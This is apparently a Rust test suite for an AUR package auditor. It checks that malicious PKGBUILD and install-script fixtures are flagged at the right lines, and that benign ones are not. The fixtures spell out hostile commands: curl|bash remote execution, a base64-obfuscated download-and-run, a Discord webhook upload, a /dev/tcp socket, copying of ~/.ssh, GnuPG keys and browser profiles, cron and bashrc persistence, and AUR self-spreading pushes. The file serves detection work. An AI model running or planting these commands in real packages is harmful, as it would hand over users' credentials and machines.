//! One case per finding kind, with the line (and file) asserted; obfuscated variants are
//! decoded before matching; benign look-alikes stay quiet.

use archgate_aur::audit::{AuditInput, ScriptFile, Severity, Verdict, audit, audit_change};

fn input(pkgbuild: &str, scripts: &[(&str, &str)], srcinfo: Option<&str>) -> AuditInput {
    AuditInput {
        pkgbuild: pkgbuild.to_owned(),
        install_scripts: scripts
            .iter()
            .map(|(n, c)| ScriptFile {
                name: (*n).to_owned(),
                content: (*c).to_owned(),
            })
            .collect(),
        srcinfo: srcinfo.map(str::to_owned),
    }
}

/// Asserts that `id` is reported in `file` at `line`.
#[track_caller]
fn expect(inp: &AuditInput, id: &str, file: &str, line: u32) -> Severity {
    let r = audit(inp);
    let hit = r
        .findings
        .iter()
        .find(|f| f.id == id && f.file == file && f.line == line);
    match hit {
        Some(f) => {
            assert!(f.column >= 1 && !f.why.is_empty());
            f.severity
        }
        None => panic!(
            "{id} not found at {file}:{line}; got {:#?}",
            r.findings
                .iter()
                .map(|f| format!("{} {}:{}:{} {}", f.id, f.file, f.line, f.column, f.snippet))
                .collect::<Vec<_>>()
        ),
    }
}

fn pb(body: &str) -> String {
    format!(
        "pkgname=demo\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://github.com/demo/demo\"\nlicense=('MIT')\n{body}"
    )
}

fn dangerous(inp: &AuditInput) -> bool {
    audit(inp).verdict == Verdict::Dangerous
}

#[test]
fn remote_code_execution_forms() {
    let cases = [
        (
            "build() {\n  curl -s https://example.org/i.sh | bash\n}\n",
            8,
        ),
        (
            "build() {\n  true\n  bash -c \"$(wget -qO- https://example.org/i)\"\n}\n",
            9,
        ),
        (
            "prepare() {\n  source <(curl -s https://example.org/env)\n}\n",
            8,
        ),
        (
            "pkgver() {\n  eval \"$(curl -fsSL https://example.org/v)\"\n}\n",
            8,
        ),
        (
            "build() {\n  x=$(curl -s https://example.org/p)\n  sh -c \"$x\"\n}\n",
            9,
        ),
        (
            "build() {\n  bash <<< \"$(wget -O- https://example.org/p)\"\n}\n",
            8,
        ),
        (
            "build() {\n  { curl -s https://example.org/a; } | python3 -\n}\n",
            8,
        ),
    ];
    for (body, line) in cases {
        let i = input(&pb(body), &[], None);
        assert_eq!(
            expect(&i, "AUR-EXEC-REMOTE", "PKGBUILD", line),
            Severity::Critical,
            "{body}"
        );
        assert!(dangerous(&i));
    }
}

#[test]
fn download_then_run() {
    let i = input(
        &pb(
            "build() {\n  curl -o helper https://example.org/h\n  chmod +x helper\n  ./helper --go\n}\n",
        ),
        &[],
        None,
    );
    assert_eq!(
        expect(&i, "AUR-EXEC-DOWNLOADED", "PKGBUILD", 10),
        Severity::High
    );
    expect(&i, "AUR-EXEC-DOWNLOADED", "PKGBUILD", 9);
}

#[test]
fn decode_then_execute_is_decoded_first() {
    // The decoded text is analysed too: the URL inside the base64 is a dynamic-DNS host.
    let i = input(
        &pb(
            "build() {\n  echo Y3VybCAtcyBodHRwOi8veC5kdWNrZG5zLm9yZy9wIHwgc2g= | base64 -d | bash\n}\n",
        ),
        &[],
        None,
    );
    expect(&i, "AUR-EXEC-DECODED", "PKGBUILD", 8);
    expect(&i, "AUR-URL-DYNDNS", "PKGBUILD", 8);
    expect(&i, "AUR-EXEC-REMOTE", "PKGBUILD", 8);
    // A decoded command name.
    let i = input(
        &pb("build() {\n  $(echo Y3VybA== | base64 -d) -s https://example.org/x -o f\n}\n"),
        &[],
        None,
    );
    expect(&i, "AUR-EXEC-DECODED", "PKGBUILD", 8);
    // rot13 and rev.
    let i = input(
        &pb("build() {\n  c=$(echo 'onfu' | tr 'a-z' 'n-za-m')\n  $c -c 'id'\n}\n"),
        &[],
        None,
    );
    expect(&i, "AUR-EXEC-DECODED", "PKGBUILD", 9);
    let i = input(
        &pb("build() {\n  p=$(echo 'mpn' | rev)\n  $p install left-pad\n}\n"),
        &[],
        None,
    );
    expect(&i, "AUR-EXEC-DECODED", "PKGBUILD", 9);
    expect(&i, "AUR-PKGMGR-UNDECLARED", "PKGBUILD", 9);
}

#[test]
fn quoting_tricks_resolve_to_the_real_command() {
    let variants = [
        "post_install() {\n  'b''u''n' add -g stealer\n}\n",
        "post_install() {\n  $'\\x62\\x75\\x6e' add -g stealer\n}\n",
        "post_install() {\n  $'\\142\\165\\156' add -g stealer\n}\n",
        "post_install() {\n  b\"u\"n add -g stealer\n}\n",
        "post_install() {\n  printf -v t '\\x62\\x75\\x6e'\n  \"$t\" add -g stealer\n}\n",
        "post_install() {\n  t=\"$(printf '\\142\\165%s' n)\"\n  $t add -g stealer\n}\n",
        "_a=b\n_b=un\npost_install() {\n  \"${_a}${_b}\" add -g stealer\n}\n",
        "post_install() {\n  bun${IFS}add${IFS}-g${IFS}stealer\n}\n",
    ];
    for v in variants {
        let i = input(&pb("install=demo.install\n"), &[("demo.install", v)], None);
        let r = audit(&i);
        let f = r
            .findings
            .iter()
            .find(|f| f.id == "AUR-PKGMGR-INSTALL")
            .unwrap_or_else(|| panic!("no pkgmgr finding for {v}: {:?}", r.findings));
        assert_eq!(f.severity, Severity::Critical);
        assert_eq!(f.file, "demo.install");
        assert!(f.line >= 2, "{v}");
        assert_eq!(r.verdict, Verdict::Dangerous, "{v}");
    }
    let i = input(
        &pb("install=demo.install\n"),
        &[("demo.install", variants[0])],
        None,
    );
    expect(&i, "AUR-OBFUSCATION", "demo.install", 2);
    expect(&i, "AUR-EXEC-OBFUSCATED", "demo.install", 2);
}

#[test]
fn package_managers_by_phase() {
    let i = input(
        &pb("package() {\n  npm install -g some-cli\n}\n"),
        &[],
        None,
    );
    assert_eq!(
        expect(&i, "AUR-PKGMGR-PACKAGE", "PKGBUILD", 8),
        Severity::High
    );
    let i = input(&pb("build() {\n  pip install requests\n}\n"), &[], None);
    assert_eq!(
        expect(&i, "AUR-PKGMGR-UNDECLARED", "PKGBUILD", 8),
        Severity::Medium
    );
    let i = input(&pb("depends=('npm')\npackage() {\n  true\n}\n"), &[], None);
    expect(&i, "AUR-DEPENDS-PKGMGR", "PKGBUILD", 7);
    let hook = "[Trigger]\nType = Package\nOperation = Upgrade\nTarget = *\n\n[Action]\nWhen = PostTransaction\nExec = /usr/bin/npm install -g updater\n";
    let i = input(&pb("package() {\n  true\n}\n"), &[("zz.hook", hook)], None);
    expect(&i, "AUR-PKGMGR-INSTALL", "zz.hook", 8);
    expect(&i, "AUR-HOOK", "zz.hook", 1);
    // Benign: a node package built with npm, installed into $pkgdir.
    let ok = input(
        &pb(
            "makedepends=('npm')\nbuild() {\n  npm ci\n  npm run build\n}\npackage() {\n  npm install -g --prefix \"$pkgdir/usr\" \"$srcdir/demo-1.0.tgz\"\n}\n",
        ),
        &[],
        None,
    );
    let r = audit(&ok);
    assert!(
        r.findings.iter().all(|f| !f.id.starts_with("AUR-PKGMGR")),
        "{:?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Ok);
}

#[test]
fn install_scripts_names_network_background_and_users() {
    let s = "post_install() {\n  curl -s -o /tmp/x https://example.org/x\n  /usr/bin/daemon &\n  sudo -u alice notify-send hi\n}\n";
    let i = input(
        &pb("install=.demo.install\n"),
        &[(".demo.install", s)],
        None,
    );
    expect(&i, "AUR-INSTALL-HIDDEN", "PKGBUILD", 7);
    assert_eq!(
        expect(&i, "AUR-INSTALL-NETWORK", ".demo.install", 2),
        Severity::High
    );
    assert_eq!(
        expect(&i, "AUR-BACKGROUND", ".demo.install", 3),
        Severity::High
    );
    expect(&i, "AUR-INSTALL-AS-USER", ".demo.install", 4);
    let i = input(
        &pb("install=demo-deps.install\n"),
        &[("demo-deps.install", "post_install() {\n  true\n}\n")],
        None,
    );
    expect(&i, "AUR-INSTALL-DEPS-NAME", "PKGBUILD", 7);
    let i = input(&pb("install=gone.install\n"), &[], None);
    expect(&i, "AUR-INSTALL-MISSING", "PKGBUILD", 7);
    // Benign install scripts: caches, messages about systemd, daemon-reload.
    let s = "post_install() {\n  gtk-update-icon-cache -q -t -f usr/share/icons/hicolor\n  echo 'systemctl enable --now demo.service'\n  systemctl daemon-reload\n  systemctl try-restart demo.service\n}\n";
    let r = audit(&input(
        &pb("install=demo.install\n"),
        &[("demo.install", s)],
        None,
    ));
    assert_eq!(r.verdict, Verdict::Ok, "{:?}", r.findings);
}

#[test]
fn sources_hosts_checksums_and_foreign_code() {
    let src = "source=(\"https://45.12.3.4/a.tar.gz\"\n        \"http://dl.example.org/b.tar.gz\"\n        \"https://abc.onion/c.tar.gz\"\n        \"https://pastebin.com/raw/d\"\n        \"https://bit.ly/e\"\n        \"https://x.duckdns.org/f.tar.gz\")\nsha256sums=('SKIP' 'aa' 'bb' 'cc' 'dd' 'ee')\npackage() {\n  true\n}\n";
    let i = input(&pb(src), &[], None);
    expect(&i, "AUR-URL-RAW-IP", "PKGBUILD", 7);
    expect(&i, "AUR-SOURCE-SKIP", "PKGBUILD", 7);
    expect(&i, "AUR-SOURCE-INSECURE", "PKGBUILD", 7);
    assert_eq!(
        expect(&i, "AUR-URL-ONION", "PKGBUILD", 7),
        Severity::Critical
    );
    expect(&i, "AUR-URL-PASTE", "PKGBUILD", 7);
    expect(&i, "AUR-URL-SHORTENER", "PKGBUILD", 7);
    expect(&i, "AUR-URL-DYNDNS", "PKGBUILD", 7);
    let i = input(
        &pb("build() {\n  curl -X POST -d @log https://discord.com/api/webhooks/1/abc\n}\n"),
        &[],
        None,
    );
    assert_eq!(
        expect(&i, "AUR-URL-WEBHOOK", "PKGBUILD", 8),
        Severity::Critical
    );
    // A renamed git source from someone else beside the upstream's, run by the build.
    let i = input(
        &pb(
            "source=(\"https://github.com/demo/demo/archive/v1.0.tar.gz\" \"patches::git+https://github.com/stranger/fix.git\")\nsha256sums=('ab' 'SKIP')\nprepare() {\n  python patches/apply.py\n}\n",
        ),
        &[],
        None,
    );
    assert_eq!(
        expect(&i, "AUR-SOURCE-FOREIGN-EXEC", "PKGBUILD", 10),
        Severity::Critical
    );
    // The same repository applied with patch(1) is fine.
    let r = audit(&input(
        &pb(
            "source=(\"https://github.com/stranger/fix/raw/main/x.patch\")\nsha256sums=('ab')\nprepare() {\n  patch -Np1 -i x.patch\n}\n",
        ),
        &[],
        None,
    ));
    assert_eq!(r.verdict, Verdict::Ok, "{:?}", r.findings);
    // A downloaded binary run during the build.
    let i = input(
        &pb(
            "source=(\"tool.AppImage::https://github.com/demo/demo/releases/download/v1/tool.AppImage\")\nsha256sums=('ab')\nprepare() {\n  ./tool.AppImage --appimage-extract\n}\n",
        ),
        &[],
        None,
    );
    expect(&i, "AUR-EXEC-BUNDLED", "PKGBUILD", 10);
}

#[test]
fn writes_persistence_and_secrets() {
    let body = "package() {\n  echo x > /etc/demo.conf\n  mkdir -p ~/.cache/demo\n  systemctl enable demo.service\n  loginctl enable-linger \"$USER\"\n  echo '* * * * * true' | crontab -\n  cp demo.desktop ~/.config/autostart/\n  echo 'run' >> ~/.bashrc\n  install -m755 fake \"$HOME/.local/bin/sudo\"\n  ln -s /usr/lib/systemd/system/demo.service \"$pkgdir/etc/systemd/system/multi-user.target.wants/demo.service\"\n  tar czf /tmp/k.tgz ~/.ssh\n  cat ~/.gnupg/private-keys-v1.d/* > /dev/null\n  cp -r ~/.mozilla/firefox /tmp/ff\n}\n";
    let i = input(&pb(body), &[], None);
    assert_eq!(
        expect(&i, "AUR-WRITE-SYSTEM", "PKGBUILD", 8),
        Severity::High
    );
    expect(&i, "AUR-WRITE-HOME", "PKGBUILD", 9);
    for line in [10, 11, 12, 13, 14, 15, 16] {
        expect(&i, "AUR-PERSISTENCE", "PKGBUILD", line);
    }
    for line in [17, 18, 19] {
        assert_eq!(
            expect(&i, "AUR-SECRETS", "PKGBUILD", line),
            Severity::Critical
        );
    }
    let i = input(&pb("build() {\n  sudo make install\n}\n"), &[], None);
    expect(&i, "AUR-SUDO", "PKGBUILD", 8);
}

#[test]
fn spreading_through_ssh_and_the_aur() {
    let s = "post_install() {\n  git clone ssh://aur@aur.archlinux.org/victim.git /tmp/v\n  git -C /tmp/v push\n  ssh -T aur@aur.archlinux.org\n  GIT_SSH_COMMAND='ssh -i key' git fetch\n}\n";
    let i = input(&pb("install=demo.install\n"), &[("demo.install", s)], None);
    assert_eq!(
        expect(&i, "AUR-AUR-PUSH", "demo.install", 2),
        Severity::Critical
    );
    expect(&i, "AUR-GIT-PUSH", "demo.install", 3);
    expect(&i, "AUR-SSH", "demo.install", 4);
    expect(&i, "AUR-SSH", "demo.install", 5);
}

#[test]
fn dev_tcp_eval_and_global_code() {
    let i = input(
        &pb("build() {\n  exec 3<>/dev/tcp/10.0.0.1/4444\n}\n"),
        &[],
        None,
    );
    expect(&i, "AUR-NET-DEVTCP", "PKGBUILD", 8);
    let i = input(&pb("build() {\n  eval \"$SOMETHING\"\n}\n"), &[], None);
    assert_eq!(expect(&i, "AUR-EVAL", "PKGBUILD", 8), Severity::Medium);
    let i = input(&pb("_v=$(curl -s https://example.org/latest)\n"), &[], None);
    expect(&i, "AUR-NETWORK-GLOBAL", "PKGBUILD", 7);
}

#[test]
fn encoded_blobs_and_hex_escapes_are_noted() {
    let blob = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODlBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWmFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6MDEyMzQ1Njc4OQ==";
    let i = input(
        &pb(&format!("_data='{blob}'\npackage() {{\n  true\n}}\n")),
        &[],
        None,
    );
    expect(&i, "AUR-ENCODED-BLOB", "PKGBUILD", 7);
    // Checksums are not blobs.
    let sums = "b2sums=('".to_owned() + &"ab".repeat(64) + "')\npackage() {\n  true\n}\n";
    let r = audit(&input(&pb(&sums), &[], None));
    assert!(r.findings.iter().all(|f| f.id != "AUR-ENCODED-BLOB"));
    let i = input(&pb("package() {\n  x=$'\\x63\\x61\\x74'\n}\n"), &[], None);
    expect(&i, "AUR-OBFUSCATION", "PKGBUILD", 8);
}

#[test]
fn pkgbuild_and_srcinfo_disagree() {
    let p = pb(
        "depends=('glibc' 'python-pip')\ninstall=demo.install\nsource=(\"https://example.org/demo-$pkgver.tar.gz\")\nsha256sums=('ab')\npackage() {\n  true\n}\n",
    );
    let s = "pkgbase = demo\n\tpkgver = 1.0\n\tpkgrel = 1\n\tdepends = glibc\n\tsource = https://example.org/demo-1.0.tar.gz\n\tsha256sums = ab\n\npkgname = demo\n";
    let i = input(
        &p,
        &[("demo.install", "post_install() {\n  true\n}\n")],
        Some(s),
    );
    let r = audit(&i);
    let mism: Vec<(Severity, u32)> = r
        .findings
        .iter()
        .filter(|f| f.id == "AUR-SRCINFO-MISMATCH")
        .map(|f| (f.severity, f.line))
        .collect();
    assert!(mism.contains(&(Severity::High, 7)), "{mism:?}");
    assert!(mism.contains(&(Severity::High, 8)), "{mism:?}");
    // Matching .SRCINFO: no mismatch.
    let s2 = "pkgbase = demo\n\tpkgver = 1.0\n\tpkgrel = 1\n\tinstall = demo.install\n\tdepends = glibc\n\tdepends = python-pip\n\tsource = https://example.org/demo-1.0.tar.gz\n\tsha256sums = ab\n\npkgname = demo\n";
    let r = audit(&input(
        &p,
        &[("demo.install", "post_install() {\n  true\n}\n")],
        Some(s2),
    ));
    assert!(
        r.findings.iter().all(|f| f.id != "AUR-SRCINFO-MISMATCH"),
        "{:?}",
        r.findings
    );
}

#[test]
fn a_change_reports_rewritten_credits_and_new_install_scripts() {
    let before = input(
        &format!(
            "# Maintainer: Alice <a@example.org>\n# Contributor: Bob <b@example.org>\n{}",
            pb("package() {\n  true\n}\n")
        ),
        &[],
        None,
    );
    let after = input(
        &format!(
            "# Maintainer: Mallory <m@example.net>\n{}",
            pb("depends=('bun')\ninstall=demo-deps.install\npackage() {\n  true\n}\n")
        ),
        &[("demo-deps.install", "post_install() {\n  echo hi\n}\n")],
        None,
    );
    let c = audit_change(&before, &after);
    let has = |id: &str, line: u32| {
        c.report
            .findings
            .iter()
            .any(|f| f.id == id && f.line == line)
    };
    assert!(
        has("AUR-DIFF-CREDITS-REWRITTEN", 1),
        "{:?}",
        c.report.findings
    );
    assert!(has("AUR-DIFF-INSTALL-NEW", 9));
    assert!(has("AUR-DIFF-DEPENDS-PKGMGR", 8));
    assert_eq!(c.report.verdict, Verdict::Dangerous);
    // Renamed install script.
    let b2 = input(
        &pb("install=demo.install\npackage() {\n  true\n}\n"),
        &[("demo.install", "post_install() {\n  true\n}\n")],
        None,
    );
    let a2 = input(
        &pb("install=.demo.install\npackage() {\n  true\n}\n"),
        &[(".demo.install", "post_install() {\n  true\n}\n")],
        None,
    );
    let c = audit_change(&b2, &a2);
    assert!(
        c.report
            .findings
            .iter()
            .any(|f| f.id == "AUR-DIFF-INSTALL-RENAMED" && f.line == 7)
    );
    // A plain version bump adds nothing.
    let v2 = input(
        &pb("package() {\n  true\n}\n").replace("pkgver=1.0", "pkgver=1.1"),
        &[],
        None,
    );
    let c = audit_change(&input(&pb("package() {\n  true\n}\n"), &[], None), &v2);
    assert_eq!(c.report.verdict, Verdict::Ok);
    assert!(c.report.findings.is_empty(), "{:?}", c.report.findings);
}

#[test]
fn json_shape_is_stable() {
    let r = audit(&input(
        &pb("build() {\n  curl -s https://example.org/x | sh\n}\n"),
        &[],
        None,
    ));
    let v = r.to_json();
    assert_eq!(v["verdict"], "dangerous");
    assert_eq!(v["max_severity"], "critical");
    let f = &v["findings"][0];
    for k in ["id", "severity", "line", "column", "snippet", "why"] {
        assert!(f.get(k).is_some(), "missing {k}");
    }
    assert_eq!(f["column"], 3);
    assert_eq!(f["snippet"], "curl -s https://example.org/x | sh");
}
